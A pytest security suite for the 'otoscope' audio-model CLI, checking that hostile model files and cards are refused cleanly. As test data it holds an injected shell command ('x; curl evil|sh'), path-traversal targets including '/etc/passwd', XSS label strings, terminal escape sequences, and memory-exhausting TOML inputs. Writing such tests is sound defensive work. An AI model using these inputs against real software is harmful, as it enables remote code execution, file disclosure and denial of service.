"""A folder of hostile files, through the front door: nothing runs, nothing is created, one line each, exit code 1."""

from __future__ import annotations

import os
from pathlib import Path

import pytest
import soundfile
from click.testing import CliRunner, Result

from otoscope.cli import main
from tests import hostile
from tests.builders import RATE, music

CARD = """
[model]
name = "guest"
kind = "{kind}"
{path}
labels = {labels}
{settings}

[input]
rate = 8000
"""


def card(path: Path, *, kind: str = "torch", file: str = "", labels: str = '["a", "b"]', settings: str = "") -> Path:
    named = f'path = "{file}"' if file else ""
    path.write_text(CARD.format(kind=kind, path=named, labels=labels, settings=settings))
    return path


def load(spec: Path, folder: Path, *options: str) -> Result:
    sound = folder / "sound.wav"
    soundfile.write(sound, music(seconds=0.5), RATE)
    return CliRunner().invoke(main, ["predict", str(sound), "--model", str(spec), *options], catch_exceptions=False)


def assert_refused(result: Result, *words: str) -> None:
    assert result.exit_code == 1, result.output
    assert result.stdout == ""
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1, lines
    assert lines[0].startswith("otoscope: error: ")
    assert lines[0].isprintable()
    for word in words:
        assert word in lines[0]


@pytest.mark.parametrize("bare", [True, False], ids=["bare", "by a card"])
def test_no_hostile_file_runs_or_leaves_anything(tmp_path: Path, bare: bool) -> None:
    marker = tmp_path / "ran"
    files = hostile.hostile_files(tmp_path / "files", marker)
    assert len(files) > 20
    before = {path for path in tmp_path.rglob("*") if path.is_file()}
    for name, path in files.items():
        for kind in ["torch"] if bare else ["torch", "onnx", "tflite", "sklearn"]:
            settings = '[model.settings]\nfeatures = "mfcc"' if kind == "sklearn" else ""
            spec = path if bare else card(path.parent / "guest.toml", kind=kind, file=path.name, settings=settings)
            assert_refused(load(spec, tmp_path), name)
    assert not marker.exists()
    left = {path for path in tmp_path.rglob("*") if path.is_file()} - before
    assert {path.name for path in left} <= {"guest.toml", "sound.wav"}


def test_with_trust_the_harmless_ones_load(tmp_path: Path) -> None:
    hostile.harmless_files(tmp_path)
    for name in ("scripted.pt", "module.pt", "program.pt2"):
        spec = card(tmp_path / "guest.toml", file=name)
        refused = load(spec, tmp_path)
        assert_refused(refused, name, "--trust")
        heard = load(spec, tmp_path, "--trust")
        # the network answers with steps, so all that is left to say is how they become one
        assert heard.exit_code in (0, 1)
        assert "--trust" not in heard.output + heard.stderr


@pytest.mark.parametrize("name", ["../outside.pt", "/etc/passwd", "a/../../outside.pt"])
def test_a_card_that_points_outside_is_refused(tmp_path: Path, name: str) -> None:
    (tmp_path / "outside.pt").write_bytes(b"x")
    (tmp_path / "folder").mkdir()
    assert_refused(load(card(tmp_path / "folder" / "card.toml", file=name), tmp_path), "climbs out")
    labelled = card(tmp_path / "folder" / "card.toml", file="x.pt", labels=f'"{name}"')
    (tmp_path / "folder" / "x.pt").write_bytes(b"x")
    assert_refused(load(labelled, tmp_path))


@pytest.mark.parametrize(
    "label", ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "a\\u001b[31mb", "a\\nb", "a\\u202eb", " "]
)
def test_labels_with_markup_or_control_characters_are_refused(tmp_path: Path, label: str) -> None:
    hostile.harmless_files(tmp_path)
    spec = card(tmp_path / "card.toml", file="module.pt", labels=f'["fine", "{label}"]')
    assert_refused(load(spec, tmp_path, "--trust"), "label")


def test_a_card_cannot_grant_trust_however_deep(tmp_path: Path) -> None:
    hostile.harmless_files(tmp_path)
    for settings in ("trust = true", "[model.settings]\ntrust = true", "[model.settings.deep]\ntrust = true"):
        spec = card(tmp_path / "card.toml", file="module.pt", settings=settings)
        assert_refused(load(spec, tmp_path), "cannot grant trust")


def test_a_card_of_a_hundred_megabytes_is_refused_unread(tmp_path: Path) -> None:
    path = tmp_path / "card.toml"
    with path.open("wb") as stream:
        stream.truncate(100_000_000)
    assert_refused(load(path, tmp_path), "too large for a model card")


@pytest.mark.parametrize("part", ["a", '"a b"', "'a'", "a . b "])
def test_a_key_of_thousands_of_parts_is_refused_before_it_is_parsed(tmp_path: Path, part: str) -> None:
    (tmp_path / "card.toml").write_text("[model]\n" + ".".join([part] * 20_000) + " = 1\n")
    assert_refused(load(tmp_path / "card.toml", tmp_path), "holds a key of more than 50 parts")


def test_a_long_list_of_numbers_is_no_such_key(tmp_path: Path) -> None:
    hostile.harmless_files(tmp_path)
    mean = "[" + ", ".join(["0.5"] * 128) + "]"
    front_end = f"[input.front_end]\nmean = {mean}\nstft = {{ n_fft = 512, hop_length = 256 }}"
    spec = card(tmp_path / "card.toml", file="module.pt")
    spec.write_text(spec.read_text() + front_end)
    assert "parts" not in load(spec, tmp_path, "--trust").stderr


def test_a_card_nested_a_thousand_deep_is_refused(tmp_path: Path) -> None:
    (tmp_path / "card.toml").write_text("[model]\nx = " + "[" * 5000 + "]" * 5000)
    assert_refused(load(tmp_path / "card.toml", tmp_path), "no valid TOML")


@pytest.mark.parametrize(
    "settings",
    [
        '[model.settings]\nfunction = "os:getcwd"',
        '[model.settings]\nfunction = "evil.py:run"',
    ],
)
def test_functions_need_trust(tmp_path: Path, settings: str) -> None:
    (tmp_path / "evil.py").write_text(f"open({str(tmp_path / 'ran')!r}, 'w')\n\ndef run(x):\n    return x[:, :2]\n")
    assert_refused(load(card(tmp_path / "card.toml", kind="python", settings=settings), tmp_path), "--trust")
    assert not (tmp_path / "ran").exists()


def test_commands_need_trust(tmp_path: Path) -> None:
    settings = f'[model.settings]\ncommand = ["touch", "{tmp_path / "ran"}", "{{file}}"]'
    assert_refused(load(card(tmp_path / "card.toml", kind="command", settings=settings), tmp_path), "touch", "--trust")
    assert not (tmp_path / "ran").exists()


def test_addresses_need_the_network_to_be_allowed_and_trust_is_not_enough(tmp_path: Path) -> None:
    settings = '[model.settings]\nurl = "http://127.0.0.1:9/score"'
    spec = card(tmp_path / "card.toml", kind="http", settings=settings)
    assert_refused(load(spec, tmp_path, "--trust"), "127.0.0.1", "--allow-network")


def test_a_file_with_another_checksum_than_its_card_names_is_refused(tmp_path: Path) -> None:
    hostile.harmless_files(tmp_path)
    spec = card(tmp_path / "card.toml", file="module.pt", settings=f'sha256 = "{"0" * 64}"')
    assert_refused(load(spec, tmp_path, "--trust"), "its sha256 is", "the card names 0000000000000000")


def test_numbers_that_would_fill_the_memory_are_refused(tmp_path: Path) -> None:
    hostile.harmless_files(tmp_path)
    spec = card(tmp_path / "card.toml", file="module.pt")
    text = spec.read_text()
    for heard in (
        "n_samples = 99999999999",
        "[input.front_end]\nn_bands = 99999999\nstft = { n_fft = 512, hop_length = 256 }",
        "[input.front_end]\nstft = { n_fft = 9999999999, hop_length = 256 }",
        "[input.front_end]\nn_frames = 9999999999\nstft = { n_fft = 512, hop_length = 256 }",
    ):
        spec.write_text(text + heard)
        assert_refused(load(spec, tmp_path, "--trust"), "[input", "must")


def test_a_pipe_or_a_folder_is_no_file_of_labels(tmp_path: Path) -> None:
    hostile.harmless_files(tmp_path)
    os.mkfifo(tmp_path / "pipe.txt")
    (tmp_path / "folder.txt").mkdir()
    for name in ("pipe.txt", "folder.txt"):
        spec = card(tmp_path / "card.toml", file="module.pt", labels=f'"{name}"')
        assert_refused(load(spec, tmp_path, "--trust"), f"{name}: is no file of labels")
    told = CliRunner().invoke(main, ["card", str(tmp_path / "net.onnx")], catch_exceptions=False)
    assert told.exit_code == 0  # and it does not wait for the pipe


def test_a_draft_reads_no_labels_from_elsewhere(tmp_path: Path) -> None:
    (tmp_path / "secret.txt").write_text("a\nb\nc\n")
    (tmp_path / "model").mkdir()
    hostile.write_onnx(tmp_path / "model" / "net.onnx")
    (tmp_path / "model" / "labels.txt").symlink_to(tmp_path / "secret.txt")
    (tmp_path / "model" / "dangling.txt").symlink_to(tmp_path / "nowhere")
    told = CliRunner().invoke(main, ["card", str(tmp_path / "model" / "net.onnx")], catch_exceptions=False)
    assert 'labels = ["class 0", "class 1", "class 2"]' in told.stdout


def test_a_hundred_thousand_labels_with_a_twin_are_refused_at_once(tmp_path: Path) -> None:
    hostile.harmless_files(tmp_path)
    (tmp_path / "l.txt").write_text("\n".join(f"{i}" for i in range(90_000)) + "\ntwin\ntwin\n")
    spec = card(tmp_path / "card.toml", file="module.pt", labels='"l.txt"')
    assert_refused(load(spec, tmp_path, "--trust"), "two labels are called 'twin'")


@pytest.mark.parametrize(
    "text",
    [
        "n_samples = " + "9" * 5000,
        "n_samples = 0x" + "f" * 5000,
        "n_samples = 0x" + "f" * 400,
        "full_scale = 0x" + "f" * 400,
        "layout = [" + "0x" + "f" * 5000 + "]",
        "n_samples = 268435456",
        '[input.front_end]\nfilterbank = "none"\nstft = { n_fft = 131072, hop_length = 512 }',
        '[input.front_end]\nfilterbank = "log"\nfmin = 1e-300\nstft = { n_fft = 4096, hop_length = 512 }',
        "[input.front_end]\nn_bands = 4096\nstft = { n_fft = 131072, hop_length = 512 }",
    ],
)
def test_numbers_without_end_are_one_line(tmp_path: Path, text: str) -> None:
    hostile.harmless_files(tmp_path)
    spec = card(tmp_path / "card.toml", file="module.pt")
    spec.write_text(spec.read_text() + text)
    assert_refused(load(spec, tmp_path, "--trust"), "card.toml: ")


@pytest.mark.parametrize("name", ["__main__", "..", "os", "x; curl evil|sh", "no_such_package"])
def test_packages_that_are_none_are_refused_without_advice_to_install_them(tmp_path: Path, name: str) -> None:
    spec = card(tmp_path / "card.toml", file="x.pt", settings=f'package = "{name}"')
    refused = load(spec, tmp_path, "--trust")
    assert_refused(refused, "is not installed")
    assert "pip" not in refused.stderr


def test_names_that_no_system_has_are_refused(tmp_path: Path) -> None:
    long = "x" * 300
    assert_refused(load(Path(long), tmp_path), "300 letters")
    assert_refused(load(card(tmp_path / "card.toml", file=long), tmp_path))
    hostile.harmless_files(tmp_path)
    assert_refused(load(card(tmp_path / "card.toml", file="module.pt", labels=f'"{long}"'), tmp_path, "--trust"))


def test_what_a_terminal_would_obey_is_escaped(tmp_path: Path) -> None:
    (tmp_path / "card.toml").write_text('["\\u001b]0;title\\u0007"]\n')
    refused = load(tmp_path / "card.toml", tmp_path)
    assert_refused(refused, "\\x1b]0;title\\x07")
